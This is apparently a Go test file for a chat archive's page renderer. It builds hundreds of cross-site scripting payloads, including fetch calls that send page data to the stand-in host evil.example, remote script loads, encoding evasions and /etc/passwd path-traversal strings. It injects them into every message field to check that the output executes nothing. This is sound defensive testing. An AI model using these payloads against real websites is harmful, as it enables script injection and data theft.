package page

import (
	"encoding/base64"
	"fmt"
	"html"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"bakfs/signal"
	"bakfs/view/chat"
)

// payloads returns texts that would run a script or load something where a page
// took them for markup. Each is some code, in something that would run it,
// behind something that would end the place where it stands, in some encoding.
func payloads() []string {
	codes := []string{"alert(1)", "fetch('https://evil.example/'+document.title)", "top.x=1//"}
	carriers := []string{
		"<script>%s</script>", "<ScRiPt >%s</sCrIpT >", "<script src=//evil.example/x.js></script>", "<img src=x onerror=%s>",
		"<img src=\"https://evil.example/p.png\">", "<svg/onload=%s>", "<svg><script>%s</script></svg>", "<iframe srcdoc=\"<script>%s</script>\">",
		"<body onload=%s>", "<details open ontoggle=%s>", "<input autofocus onfocus=%s>", "<a href=\"javascript:%s\">x</a>",
		"<meta http-equiv=refresh content=\"0;url=javascript:%s\">", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css'</style>",
		"<base href=https://evil.example/>", "<form action=javascript:%s><button>", "<object data=\"javascript:%s\">", "<math><mi xlink:href=\"javascript:%s\">",
		"<template><script>%s</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=%s>\">", "<video><source onerror=%s>",
	}
	closers := []string{
		"", "\">", "'>", "</title>", "</style>", "</p></article></li>", "-->", "]]>", "<!--", "</textarea></script>", "\"/>", "`>", "\x00\">", "}}{{",
	}
	urls := []string{
		"javascript:%s", "JaVaScRiPt:%s", " javascript:%s", "\x01javascript:%s", "java\tscript:%s", "java\nscript:%s", "javascript&colon;%s",
		"data:text/html,<script>%s</script>", "vbscript:%s", "http://javascript:%s", "https://x/\" onmouseover=\"%s", "https://x/' onmouseover='%s",
		"//evil.example/%s", "\\\\evil.example\\%s", "../../../../etc/passwd", "file:///etc/passwd#%s", "blob:https://evil.example/%s", "https://evil.example/<img src=x onerror=%s>",
		"x\" onerror=\"%s", "x' onerror='%s", "x onerror=%s ", "x style=background:url(//evil.example/%s)", "expression(%s)", "url(javascript:%s)", "{{.}}%s", "@import '%s'",
	}
	seen := map[string]bool{}
	var out []string
	add := func(s string) {
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	for i, carrier := range slices.Concat(carriers, urls) {
		for j, closer := range closers {
			s := closer + strings.ReplaceAll(carrier, "%s", codes[(i+j)%len(codes)])
			if j%4 == i%4 {
				s = encoded(s, i+j)
			}
			add(s)
		}
	}
	return out
}

// encoded returns s in one of several encodings that something might undo.
func encoded(s string, how int) string {
	switch how % 9 {
	case 0:
		return html.EscapeString(s)
	case 1:
		return url.QueryEscape(s)
	case 2:
		return url.PathEscape(url.PathEscape(s))
	case 3:
		return mapped(s, func(r rune) string { return fmt.Sprintf("&#x%x;", r) })
	case 4:
		return mapped(s, func(r rune) string { return fmt.Sprintf("\\u%04x", r) })
	case 5: // full-width forms, which some take for the plain ones
		return mapped(s, func(r rune) string {
			if r > ' ' && r < 0x7f {
				r += 0xfee0
			}
			return string(r)
		})
	case 6: // overlong and cut UTF-8
		return strings.NewReplacer("<", "\xc0\xbc", ">", "\xe0\x80\xbe", "\"", "\xc0\xa2").Replace(s) + "\xe2\x80"
	case 7:
		return "data:text/html;base64," + base64.StdEncoding.EncodeToString([]byte(s))
	}
	return "\u202e" + strings.ReplaceAll(s, "<", "<\x00") + "\u2066"
}

func mapped(s string, f func(rune) string) string {
	var b strings.Builder
	for _, r := range s {
		b.WriteString(f(r))
	}
	return b.String()
}

// strs calls f with each string in v that a person could have chosen, and the
// name of its field. What v shares with others is visited in each place.
func strs(v reflect.Value, name string, f func(name string, v reflect.Value)) {
	switch v.Kind() {
	case reflect.Pointer, reflect.Interface:
		if !v.IsNil() && v.Type() != reflect.TypeFor[*time.Location]() {
			strs(v.Elem(), name, f)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if t := v.Type().Field(i); t.IsExported() {
				strs(v.Field(i), v.Type().Name()+"."+t.Name, f)
			}
		}
	case reflect.Slice:
		for i := range v.Len() {
			strs(v.Index(i), name, f)
		}
	case reflect.String:
		if v.CanSet() {
			f(name, v)
		}
	}
}

// copied returns a deep copy of v, in which nothing is shared.
func copied(v reflect.Value) reflect.Value {
	out := reflect.New(v.Type()).Elem()
	switch v.Kind() {
	case reflect.Pointer:
		if v.IsNil() || v.Type() == reflect.TypeFor[*time.Location]() {
			return v
		}
		out.Set(copied(v.Elem()).Addr())
	case reflect.Interface:
		if v.IsNil() {
			return v
		}
		out.Set(copied(v.Elem()))
	case reflect.Struct:
		out.Set(v)
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				out.Field(i).Set(copied(v.Field(i)))
			}
		}
	case reflect.Slice:
		if v.IsNil() {
			return v
		}
		out.Set(reflect.MakeSlice(v.Type(), v.Len(), v.Len()))
		for i := range v.Len() {
			out.Index(i).Set(copied(v.Index(i)))
		}
	default:
		out.Set(v)
	}
	return out
}

func clone[T any](v T) T { return copied(reflect.ValueOf(&v).Elem()).Interface().(T) }

// withField returns copies of the messages that have the field, one for each
// payload and message, each with the payload in the field.
func withField(field string, list []string) []*chat.Message {
	var out []*chat.Message
	for _, m := range kinds() {
		has := false
		strs(reflect.ValueOf(m), "", func(name string, _ reflect.Value) { has = has || name == field })
		if !has {
			continue
		}
		for _, p := range list {
			c := clone(m)
			strs(reflect.ValueOf(c), "", func(name string, v reflect.Value) {
				if name == field {
					v.SetString(p)
				}
			})
			c.First += signal.Millis(len(out))
			out = append(out, c)
		}
		if len(out) >= 2*len(list) { // other messages with it differ in other fields
			break
		}
	}
	return out
}

func TestNoFieldOfAMessageRunsAnything(t *testing.T) {
	list := payloads()
	if len(list) < 600 {
		t.Fatalf("%d payloads", len(list))
	}
	fields := map[string]bool{}
	for _, m := range kinds() {
		strs(reflect.ValueOf(m), "", func(name string, _ reflect.Value) { fields[name] = true })
	}
	if len(fields) < 40 {
		t.Fatalf("%d fields", len(fields))
	}
	if testing.Short() {
		list = list[:60]
	}
	for field := range fields {
		t.Run(field, func(t *testing.T) {
			t.Parallel()
			m := may()
			m.Messages = withField(field, list)
			m.Resolve = func(q *chat.Quote) string { return snippet(q.Text) }
			gallery := &Gallery{Chat: club, Year: 2026, Messages: m.Messages}
			for name, p := range map[string]anyPage{"month": m, "gallery": gallery} {
				b, err := p.Append(nil)
				if err != nil {
					t.Fatal(err)
				}
				for _, err := range check(b) {
					t.Errorf("%s: %v", name, err)
				}
			}
		})
	}
}

func TestNoStringOfAPageRunsAnything(t *testing.T) {
	list := payloads()
	for name, p := range pages() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for i, attack := range list {
				if i%4 != 0 && name == "month" { // it takes the longest, and the test above is about it
					continue
				}
				c := clone(p)
				strs(reflect.ValueOf(c), "", func(_ string, v reflect.Value) { v.SetString(attack) })
				if r, ok := c.(*Results); ok {
					r.Mark = func(s string) [][2]int { return [][2]int{{-5, 1}, {0, 3}, {2, 7}, {5, len(s) + 9}} }
				}
				b, err := c.Append(nil)
				if err != nil {
					t.Fatal(err)
				}
				for _, err := range check(b) {
					t.Errorf("%q: %v", attack, err)
				}
			}
		})
	}
}
